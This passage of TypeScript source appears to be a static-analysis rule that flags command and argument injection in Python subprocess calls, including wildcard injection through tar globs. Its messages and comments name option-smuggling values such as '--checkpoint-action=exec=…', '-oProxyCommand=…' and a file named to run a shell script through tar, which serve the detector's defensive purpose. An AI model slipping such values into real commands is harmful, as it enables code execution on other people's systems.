        const optionArgument = previous !== null && /^--[A-Za-z][\w-]*$/.test(previous);
        previous = word;
        if (endOfOptions || optionArgument || !untrusted(element) || startsWithConstantWord(element)) continue;
        const name = program === null ? 'the program' : `\`${basename(program)}\``;
        context.report({
          ...flowReport(hit, 'medium', `${label} passes ${sourceKind(hit)} (${sourceOf(hit)}) to ${name} as an argument: a value starting with \`-\` is read as an option (\`--checkpoint-action=exec=…\`, \`-oProxyCommand=…\`); put \`"--"\` before it, or reject values that start with \`-\``),
          // On the sink: the element itself when it is written in the call, else the argument that carries it.
          at: hit.sink.contains(element) ? element : hit.argument,
          ...(hit.sink.contains(element) ? {} : { related: [{ at: element, message: 'the argument is put in the list here' }] }),
        });
        return;
      }
    };

    /** Whether an argument always starts with constant text that is not an option (`f"--name={x}"`, `"id=" + x`). */
    const startsWithConstantWord = (element: SyntaxNode): boolean => {
      const shape = model.stringShape(element);
      const first = shape?.parts[0];
      return !!first && first.kind === 'text' && first.text.length > 0;
    };

    return {
      call(call) {
        const callee = model.calleeQualifiedName(call);
        if (!callee) return;
        if (SUBPROCESS_FUNCTIONS.has(callee)) onSubprocess(call, callee);
        else if (ALWAYS_SHELL.has(callee)) onAlwaysShell(call, callee);
        else if (/^os\.(exec|spawn|posix_spawn)/.test(callee)) onExecOrSpawn(call, callee);
        else if (callee === 'asyncio.create_subprocess_exec') {
          // `create_subprocess_exec("sh", "-c", cmd)`: the arguments are the argument vector.
          const args = callArguments(call);
          if (!args.hasUnpacking && args.positional.length > 0) reportExplicitShell(call, callee, shellCommandIn(args.positional));
        }
      },
      'unit:exit'() {
        // Only request data: a program's own user choosing what it runs (its arguments, its environment) is
        // what command-line tools are for.
        for (const hit of commandHits().rest()) if (hit.taint.kinds & kindBit('remote')) reportUnjudgedFlow(hit);
      },
    };
  },
});

/** `%` conversions that only accept numbers (`%c` also takes a one-character string, so it is not here). */
const NUMERIC_CONVERSIONS = new Set(['d', 'i', 'o', 'u', 'x', 'X', 'e', 'E', 'f', 'F', 'g', 'G']);
/** Format specs that only accept numbers: `{n:d}`, `{x:08.3f}`, `{n:,}` is not one (`str` rejects `,` too, but keep it simple). */
const NUMERIC_FORMAT_SPEC = /^:[^{}]*[bdeEfFgGnoxX%]$/;

function basename(path: string): string {
  return path.split(/[\\/]/).pop() ?? path;
}

/** The text to name a spliced value by: the whole generator for `" ".join(a for a in args)`, not just `a`. */
function dataLabel(node: SyntaxNode): SyntaxNode {
  const parent = node.parent;
  if (node.field === 'body' && parent && (parent.type === 'generator_expression' || parent.type === 'list_comprehension')) {
    return parent;
  }
  return node;
}

/**
 * A glob word at the start of an argument (`*`, `*.tar`) passed to a command whose options can arrive as file
 * names: a file called `--checkpoint-action=exec=sh x.sh` in the directory becomes an option of `tar`.
 */
function wildcardInjection(command: string): { program: string; word: string } | null {
  for (const simple of command.split(/\|\||&&|[;|&\n]/)) {
    const words = simple.trim().split(/\s+/).filter((word) => word.length > 0);
    let index = 0;
    while (index < words.length && (/^\w+=/.test(words[index]!) || ['sudo', 'nice', 'nohup', 'exec', 'command', 'time'].includes(words[index]!))) {
      index++;
    }
    const program = words[index];
    if (!program || !WILDCARD_SENSITIVE.has(basename(program))) continue;
    for (const word of words.slice(index + 1)) {
      if (word === '--') break;
      if (/^[*?[]/.test(word) && !/['"\\]/.test(word)) return { program: basename(program), word };
    }
  }
  return null;
}

/** The span that removes a keyword argument together with the comma before it (or after it, when it is first). */
function removalSpan(argument: SyntaxNode): { start: number; end: number } | null {
  const list = argument.parent;
  if (!list) return null;
  const siblings = list.namedChildren;
  const index = siblings.indexOf(argument);
  if (index < 0) return null;
  const span =
    index > 0
      ? { start: siblings[index - 1]!.end, end: argument.end }
      : siblings[index + 1]
        ? { start: argument.start, end: siblings[index + 1]!.start }
        : { start: argument.start, end: argument.end };
  // Never delete a comment along with the argument.
  if (list.children.some((child) => child.type === 'comment' && child.start < span.end && child.end > span.start)) return null;
  return span;
}
